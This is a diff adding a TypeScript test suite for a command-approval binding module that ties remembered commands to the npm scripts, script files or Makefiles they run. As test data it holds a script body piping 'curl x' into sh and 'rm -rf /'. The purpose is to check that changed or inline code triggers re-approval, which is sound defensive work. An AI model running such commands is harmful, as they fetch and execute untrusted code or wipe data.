@@ -1,0 +1,136 @@
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { commandBinding, executedContent } from "./binding.js";
+
+const CWD = "/work/app";
+
+function files(map: Record<string, string>): (file: string) => string | undefined {
+  return (file) => map[path.resolve(file)];
+}
+
+const pkg = (scripts: Record<string, string>): string => JSON.stringify({ name: "app", scripts });
+
+describe("commandBinding", () => {
+  it("binds npm test to the test script and its pre and post scripts", () => {
+    const read = files({
+      "/work/app/package.json": pkg({ pretest: "tsc", test: "vitest run", posttest: "echo ok" }),
+    });
+    const content = executedContent(["npm", "test"], CWD, read);
+    expect(content).toMatchObject({
+      kind: "package-script",
+      file: "/work/app/package.json",
+      scripts: ["pretest", "test", "posttest"],
+    });
+  });
+
+  it("asks again when the script body changes", () => {
+    const before = commandBinding(
+      ["pnpm", "run", "build"],
+      CWD,
+      files({ "/work/app/package.json": pkg({ build: "tsc" }) }),
+    );
+    const after = commandBinding(
+      ["pnpm", "run", "build"],
+      CWD,
+      files({ "/work/app/package.json": pkg({ build: "tsc && curl x | sh" }) }),
+    );
+    expect(before.ok && after.ok).toBe(true);
+    if (before.ok && after.ok) {
+      expect(after.key).toBe(before.key);
+      expect(after.digest).not.toBe(before.digest);
+    }
+  });
+
+  it("ignores changes to scripts that do not run", () => {
+    const a = commandBinding(
+      ["yarn", "start"],
+      CWD,
+      files({ "/work/app/package.json": pkg({ start: "node .", lint: "eslint" }) }),
+    );
+    const b = commandBinding(
+      ["yarn", "start"],
+      CWD,
+      files({ "/work/app/package.json": pkg({ start: "node .", lint: "rm -rf /" }) }),
+    );
+    expect(a.ok && b.ok && a.digest === b.digest).toBe(true);
+  });
+
+  it("finds the package.json above the working directory", () => {
+    const content = executedContent(
+      ["npm", "run", "lint"],
+      "/work/app/src/deep",
+      files({ "/work/app/package.json": pkg({ lint: "eslint ." }) }),
+    );
+    expect(content).toMatchObject({ kind: "package-script", file: "/work/app/package.json" });
+  });
+
+  it("refuses a script that package.json does not have", () => {
+    expect(
+      executedContent(["npm", "run", "nope"], CWD, files({ "/work/app/package.json": pkg({}) })),
+    ).toEqual({
+      refused: '/work/app/package.json has no "nope" script',
+    });
+  });
+
+  it("binds ./x.sh, bash x.sh, node x.js and python x.py to the file", () => {
+    const read = files({ "/work/app/x.sh": "echo hi", "/work/app/x.js": "1", "/work/app/x.py": "print(1)" });
+    expect(executedContent(["./x.sh"], CWD, read)).toMatchObject({ kind: "file", file: "/work/app/x.sh" });
+    expect(executedContent(["bash", "-e", "x.sh", "arg"], CWD, read)).toMatchObject({
+      kind: "file",
+      file: "/work/app/x.sh",
+    });
+    expect(executedContent(["node", "x.js"], CWD, read)).toMatchObject({
+      kind: "file",
+      file: "/work/app/x.js",
+    });
+    expect(executedContent(["python3.12", "x.py"], CWD, read)).toMatchObject({
+      kind: "file",
+      file: "/work/app/x.py",
+    });
+  });
+
+  it("changes the digest when the script file changes", () => {
+    const a = commandBinding(["./x.sh"], CWD, files({ "/work/app/x.sh": "echo a" }));
+    const b = commandBinding(["./x.sh"], CWD, files({ "/work/app/x.sh": "echo b" }));
+    expect(a.ok && b.ok && a.digest !== b.digest).toBe(true);
+  });
+
+  it("binds make to the Makefile and refuses make -f", () => {
+    const read = files({ "/work/app/Makefile": "all:\n\ttrue\n" });
+    expect(executedContent(["make", "build"], CWD, read)).toMatchObject({
+      kind: "makefile",
+      file: "/work/app/Makefile",
+    });
+    expect(executedContent(["make", "-f", "other.mk"], CWD, read)).toHaveProperty("refused");
+  });
+
+  it.each([
+    [["bash"], /interactive interpreter/],
+    [["bash", "-c", "rm -rf x"], /runs code given on the command line/],
+    [["python3", "-c", "print(1)"], /runs code given on the command line/],
+    [["node", "-e", "1"], /runs code given on the command line/],
+    [["sudo", "make", "install"], /never remembered/],
+    [["env", "FOO=1", "./x.sh"], /never remembered/],
+    [["xargs", "rm"], /never remembered/],
+  ])("never remembers %j", (argv, reason) => {
+    const binding = commandBinding(argv, CWD, files({ "/work/app/x.sh": "echo" }));
+    expect(binding.ok).toBe(false);
+    if (!binding.ok) expect(binding.reason).toMatch(reason);
+  });
+
+  it("refuses a script file that cannot be read", () => {
+    expect(commandBinding(["./missing.sh"], CWD, files({})).ok).toBe(false);
+  });
+
+  it("keys by exact argv and cwd", () => {
+    const read = files({});
+    const a = commandBinding(["git", "push"], CWD, read);
+    const b = commandBinding(["git", "push", "--force"], CWD, read);
+    const c = commandBinding(["git", "push"], "/other", read);
+    expect(a.ok && b.ok && c.ok).toBe(true);
+    if (a.ok && b.ok && c.ok) {
+      expect(new Set([a.key, b.key, c.key]).size).toBe(3);
+      expect(a.content.kind).toBe("none");
+    }
+  });
+});
